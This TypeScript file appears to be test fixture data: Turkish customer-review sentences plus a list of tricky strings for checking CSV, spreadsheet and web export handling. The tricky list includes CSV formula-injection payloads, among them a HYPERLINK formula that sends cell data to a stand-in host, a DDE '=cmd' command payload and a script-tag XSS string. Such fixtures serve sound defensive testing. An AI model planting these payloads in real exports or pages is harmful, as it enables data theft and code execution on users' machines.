/** Texts of comments: praise, complaints, and texts that break a careless export. */

/** Sentences by satisfaction. */
export const OPENINGS: Readonly<Record<"happy" | "neutral" | "unhappy", readonly string[]>> = {
  happy: [
    "Ürün beklediğimden de güzel çıktı",
    "Çok beğendik, ikincisini de aldık",
    "Işıl ışıl, tam fotoğraftaki gibi",
    "Kargo ertesi gün geldi, teşekkürler",
    "Fiyatına göre gayet başarılı",
    "Annem için aldım, bayıldı 😍",
    "Satıcı çok ilgili, hediye de koymuş 🎁",
  ],
  neutral: [
    "İdare eder, fiyatı biraz yüksek",
    "Rengi fotoğraftakinden açık",
    "Ürün güzel ama kargo geç geldi",
    "Ne iyi ne kötü",
    "Beden olarak küçük kalıyor",
  ],
  unhappy: [
    "Kutusu ezilmiş geldi",
    "İade etmek istiyorum, cevap veren yok 😡",
    "Açıklamada yazan ürün bu değil",
    "İki haftada bozuldu",
    "Eksik parça çıktı",
    "Kesinlikle tavsiye etmiyorum 👎🏽",
  ],
};

export const ENDINGS: readonly string[] = [
  ".",
  "!",
  ". Tavsiye ederim.",
  ". Ölçüleri 10,5 × 20 cm.",
  ". Şişirilmiş değil, gerçek yorum.",
  "; paketleme özenliydi.",
  ". Öğretmenler Günü için aldım.",
  "...",
];

/** Texts that a spreadsheet, a CSV file or a web page can misread. */
export const ODD_MESSAGES: readonly string[] = [
  '=HYPERLINK("http://kotu.example/?q="&A1;"Kampanya için tıklayın")',
  '=HYPERLINK("http://kotu.example","Tıkla")',
  "=1+1",
  "+905551112233 numarasından ulaşın",
  "-5 puan, keşke verebilsem",
  "@SUM(A1:A9)",
  "\t=2+5",
  "=cmd|' /C calc'!A0",
  'Satıcı "hemen kargolarız" dedi, "yarın" oldu',
  '"',
  "İlk satır\nİkinci satır\n\nSon satır",
  "Windows satırı\r\nalt satır",
  "Noktalı; virgül, ve\tsekme",
  "<b>Kalın</b> & <script>alert(1)</script>",
  "😍😍😍",
  "👨‍👩‍👧‍👦 ailecek bayıldık 🇹🇷",
  "ÇOK İYİ ÜRÜN IŞIK GİBİ ŞĞÜÖÇİ",
  "0012345",
  "1,5",
  "12.05.2024",
  "NULL",
  "  başta ve sonda boşluk  ",
  `Uzun yorum: ${"Çok memnun kaldım, herkese öneririm. ".repeat(40).trim()}`,
];
